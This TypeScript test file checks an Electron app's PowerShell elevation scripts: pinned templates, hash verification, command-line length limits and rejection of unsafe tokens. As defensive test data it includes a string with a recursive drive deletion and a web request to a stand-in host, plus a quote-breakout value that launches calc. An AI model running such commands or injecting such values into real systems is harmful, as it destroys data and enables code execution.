import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, it } from 'vitest'
import { composeScript } from '../compose-script'
import { encodeCommand } from '../encode'
import { checkPowerShellSyntax } from '../syntax-check'
import { decodeLaunch } from './fake-elevated-side'
import {
  ELEVATED_ARGUMENTS_PREFIX,
  MAX_COMMAND_LINE,
  bootstrapScript,
  buildElevationPlan,
  commandLineLength,
  launcherScript,
  sha256Hex,
} from './scripts'

// Fixed values for the pinned fixtures. After an intended template change, regenerate with
// `WND_UPDATE_FIXTURES=1 npx vitest run electron/powershell/elevation` and review the diff.
const PIPE = 'wnd-elevate-0123456789abcdef0123456789abcdef'
const NONCE = 'fedcba9876543210fedcba9876543210'
const HASH = sha256Hex('fixture script')
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const BOOTSTRAP_B64 = encodeCommand('BOOTSTRAP')
const FIXTURES = fileURLToPath(new URL('./__fixtures__', import.meta.url))

function expectFixture(name: string, text: string): void {
  const path = join(FIXTURES, name)
  if (process.env['WND_UPDATE_FIXTURES'] === '1') writeFileSync(path, `${text}\n`)
  expect(`${text}\n`).toBe(readFileSync(path, 'utf8'))
}

const HOSTILE = [
  `'; Remove-Item -Recurse -Force C:\\ ; '`,
  `"$(Invoke-WebRequest http://evil.example)"`,
  '`n`r @\' here \'@',
  '# 修复 WSL 网络 — 中文说明',
].join('\n')

const plan = (scriptText: string) =>
  buildElevationPlan({ scriptText, pipeName: PIPE, nonce: NONCE, powershellPath: POWERSHELL, connectTimeoutMs: 10_000 })

describe('bootstrap and launcher templates', () => {
  it('generates exactly the pinned bootstrap', () => {
    expectFixture('bootstrap.ps1.txt', bootstrapScript({ pipeName: PIPE, nonce: NONCE, scriptSha256: HASH, connectTimeoutMs: 10_000 }))
  })

  it('generates exactly the pinned launcher', () => {
    expectFixture('launcher.ps1.txt', launcherScript({ powershellPath: POWERSHELL, bootstrapBase64: BOOTSTRAP_B64 }))
  })

  it('keeps both scripts lint-clean and ASCII (tree-sitter)', async () => {
    const { bootstrap, launcher } = plan(HOSTILE)
    expect(await checkPowerShellSyntax(bootstrap)).toEqual([])
    expect(await checkPowerShellSyntax(launcher)).toEqual([])
    expect(bootstrap).toMatch(/^[\n\x20-\x7e]*$/)
    expect(launcher).toMatch(/^[\n\x20-\x7e]*$/)
  })

  it('keeps the bootstrap well under 2 KB', () => {
    expect(plan(HOSTILE).bootstrap.length).toBeLessThan(1600)
  })

  it('never puts script content in either command line, only its hash', () => {
    const script = composeScript({ id: 'repair', body: HOSTILE, prelude: '' })
    const built = plan(script.text)
    const everything = [built.bootstrap, built.launcher, built.bootstrapBase64, ...built.launcherArgs].join('\n')
    for (const needle of ['Remove-Item', 'Invoke-WebRequest', '$(', '修复', '中文', 'here', Buffer.from(script.text).toString('base64').slice(0, 40)]) {
      expect(everything).not.toContain(needle)
    }
    expect(built.bootstrap).toContain(`$h = '${sha256Hex(script.text)}'`)
  })

  it('differs between two scripts only in the pinned hash', () => {
    const a = plan('Write-Output 1').bootstrap.split('\n')
    const b = plan(HOSTILE).bootstrap.split('\n')
    const differing = a.flatMap((line, i) => (line === b[i] ? [] : [line]))
    expect(differing).toEqual([`$h = '${sha256Hex('Write-Output 1')}'`])
  })

  it('round-trips through the launcher arguments the way Windows decodes them', () => {
    const built = plan(HOSTILE)
    const decoded = decodeLaunch(built.launcherArgs)
    expect(decoded.launcher).toBe(built.launcher)
    expect(decoded.bootstrap).toBe(built.bootstrap)
    expect(decoded).toMatchObject({ pipeName: PIPE, nonce: NONCE, scriptSha256: sha256Hex(HOSTILE) })
    expect(built.launcherArgs.slice(0, 5)).toEqual(['-NoProfile', '-NonInteractive', '-ExecutionPolicy', 'Bypass', '-EncodedCommand'])
  })

  it('keeps both command lines far below 32,767 characters, whatever the script size', () => {
    const small = plan('x')
    const huge = plan(`${HOSTILE}\n`.repeat(5000))
    for (const built of [small, huge]) {
      const elevated = commandLineLength(POWERSHELL, [ELEVATED_ARGUMENTS_PREFIX + built.bootstrapBase64])
      const launcher = commandLineLength(POWERSHELL, built.launcherArgs)
      expect(elevated).toBeLessThan(MAX_COMMAND_LINE / 4)
      expect(launcher).toBeLessThan(MAX_COMMAND_LINE / 2)
    }
    expect(commandLineLength(POWERSHELL, huge.launcherArgs)).toBe(commandLineLength(POWERSHELL, small.launcherArgs))
  })

  it('follows the runas recipe and maps NativeErrorCode 1223 to cancelled', () => {
    const { launcher } = plan('x')
    expect(launcher).toContain(`New-Object Diagnostics.ProcessStartInfo '${POWERSHELL}'`)
    expect(launcher).toContain('$psi.UseShellExecute = $true')
    expect(launcher).toContain(`$psi.Verb = 'runas'`)
    expect(launcher).toContain('[Diagnostics.Process]::Start($psi)')
    expect(launcher).toMatch(/NativeErrorCode -eq 1223\) \{\n\s+\$j = '\{"status":"cancelled"\}'/)
    expect(launcher).not.toMatch(/Start-Process/i)
  })

  it('hashes the received bytes before decoding, and redirects Console.Out only around the script', () => {
    const lines = plan('x').bootstrap.split('\n')
    const hashAt = lines.findIndex((l) => l.includes('ComputeHash($b)'))
    const compareAt = lines.indexOf('if ($a -ne $h) {')
    const runAt = lines.findIndex((l) => l.includes('[ScriptBlock]::Create($u.GetString($b))'))
    expect(hashAt).toBeGreaterThan(0)
    expect(compareAt).toBeGreaterThan(hashAt)
    expect(runAt).toBeGreaterThan(compareAt)
    expect(lines.findIndex((l) => l.includes('[Console]::SetOut($s)'))).toBeLessThan(runAt)
    expect(lines.findIndex((l) => l.includes('[Console]::SetOut($o)'))).toBeGreaterThan(runAt)
    expect(lines.join('\n')).toContain('TokenImpersonationLevel]::Identification')
  })

  it('refuses tokens that could break out of their quotes', () => {
    const ok = { scriptText: 'x', pipeName: PIPE, nonce: NONCE, powershellPath: POWERSHELL, connectTimeoutMs: 1000 }
    expect(() => buildElevationPlan({ ...ok, pipeName: "x'; calc; '" })).toThrow(/pipe name/)
    expect(() => buildElevationPlan({ ...ok, nonce: 'NOT-HEX-NOT-HEX-NOT-HEX' })).toThrow(/nonce/)
    expect(() => buildElevationPlan({ ...ok, powershellPath: "C:\\Win'dows\\powershell.exe" })).toThrow(/path/)
    expect(() => buildElevationPlan({ ...ok, powershellPath: 'C:\\Win\u2019dows\\powershell.exe' })).toThrow(/path/)
    expect(() => buildElevationPlan({ ...ok, powershellPath: 'powershell.exe' })).toThrow(/path/)
    expect(() => buildElevationPlan({ ...ok, connectTimeoutMs: 0 })).toThrow(/timeout/)
  })

  it('hashes UTF-8 bytes (known SHA-256 vector)', () => {
    expect(sha256Hex('abc')).toBe('ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad')
  })
})
